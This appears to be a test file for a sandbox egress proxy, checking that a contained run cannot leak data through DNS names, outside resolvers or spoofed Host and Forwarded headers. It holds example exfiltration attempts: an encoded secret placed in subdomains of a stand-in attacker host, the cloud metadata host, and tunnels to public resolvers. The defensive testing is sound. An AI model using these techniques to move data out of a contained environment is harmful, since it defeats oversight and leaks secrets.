import { describe, expect, test } from 'vitest';
import { openEgressWorld, startServer } from '../fixtures/egress/index.ts';
import { askInside, connectTo, getAt, getFrom } from '../fixtures/egress/inside.ts';

const HOME = '127.0.0.1';
const LEAK = 'c2VjcmV0';

/** Names that carry something out by being asked for. */
const CARRIERS = [
  ...[
    `${LEAK}.attacker.test`,
    `${LEAK}.ok.test`,
    `${LEAK}.ok.test.attacker.test`,
    `${'a'.repeat(60)}.attacker.test`,
  ],
  ...[
    `${LEAK}.wild.test`,
    `deny.wild.test`,
    'wild.test',
    'localhost',
    'metadata.google.internal',
    `${LEAK}.local`,
  ],
];

describe('a run that puts what it knows into names', () => {
  test.each(['c', 'b'])('has no name looked up in tier %s that the list denies', async (tier) => {
    const { port } = await startServer();
    const world = await openEgressWorld({
      entries: [`ok.test:${port}`, `ok.wild.test:${port}`, `${HOME}:${port}`],
      // Each would be answered.
      names: Object.fromEntries(['ok.test', 'ok.wild.test', ...CARRIERS].map((name) => [name, [HOME]])),
    });
    const messages = Object.fromEntries(
      CARRIERS.flatMap((name) => [
        [`page of ${name}`, { send: getFrom(`http://${name}:${port}/`) }],
        [`tunnel to ${name}`, { send: connectTo(`${name}:${port}`) }],
        [`credential for ${name}`, { send: connectTo(`${name}:${port}`).replace('<credential>', '') }],
      ]),
    );
    const { answers, egress } = await askInside(world, messages, { tier });
    expect(Object.entries(answers).filter(([, answer]) => !/^40[37]$/.test(answer))).toEqual([]);
    expect(world.lookedUp).toEqual([]);
    // What was denied is in the record all the same.
    expect(egress.decisions.filter(({ host }) => host.includes(LEAK.toLowerCase()))).not.toEqual([]);

    const control = await askInside(world, { ok: { send: getFrom(`http://ok.test:${port}/`) } }, { tier });
    expect([control.answers, world.lookedUp]).toEqual([{ ok: '200' }, ['ok.test']]);
  });

  test('finds no resolver behind its proxy: neither over HTTPS, nor over TLS, nor over TCP', async () => {
    const { port, asked } = await startServer();
    const world = await openEgressWorld({
      entries: [`ok.test:${port}`, `${HOME}:${port}`],
      names: { 'ok.test': [HOME], 'dns.test': [HOME] },
    });
    const query = `/dns-query?name=${LEAK}.attacker.test`;
    const { answers } = await askInside(world, {
      'HTTPS by name': { send: connectTo('dns.test:443') },
      'HTTPS by address': { send: connectTo('8.8.8.8:443') },
      'HTTPS in the open': { send: getFrom(`http://dns.test:${port}${query}`) },
      TLS: { send: connectTo('8.8.8.8:853') },
      TCP: { send: connectTo('8.8.8.8:53') },
      'stub of the host': { send: connectTo('127.0.0.53:53') },
      'its allowed host': { send: getFrom(`http://ok.test:${port}${query}`) },
    });
    const { 'its allowed host': allowed, ...others } = answers;
    expect(new Set(Object.values(others))).toEqual(new Set(['403']));
    expect(world.lookedUp).toEqual(['ok.test']);
    // Whoever is on the list hears what the run says: that is what being on it means.
    expect([allowed, asked.map(({ url }) => url)]).toEqual(['200', [query]]);
  });

  test('cannot have a denied name looked up by a header or at a door', async () => {
    const { port, asked } = await startServer();
    const leak = `${LEAK}.attacker.test`;
    const world = await openEgressWorld({
      entries: [`http://ok.test:${port}`, `${HOME}:${port}`],
      names: { 'ok.test': [HOME], [leak]: [HOME] },
    });
    const { answers } = await askInside(world, {
      'another Host': { send: getFrom(`http://ok.test:${port}/`).replace('Host: ok.test', `Host: ${leak}`) },
      'forwarded for': {
        send: getFrom(`http://ok.test:${port}/`, `X-Forwarded-Host: ${leak}\r\nForwarded: host=${leak}\r\n`),
      },
      'at the door': { send: getAt(`${leak}:${port}`), to: ['ok.test', port] },
      'past the door': {
        send: getFrom(`http://${leak}:${port}/`).replace('<credential>', ''),
        to: ['ok.test', port],
      },
    });
    expect(answers).toEqual({
      'another Host': '400',
      'forwarded for': '200',
      'at the door': '400',
      'past the door': '400',
    });
    expect([new Set(world.lookedUp), asked.length]).toEqual([new Set(['ok.test']), 1]);
  });
});
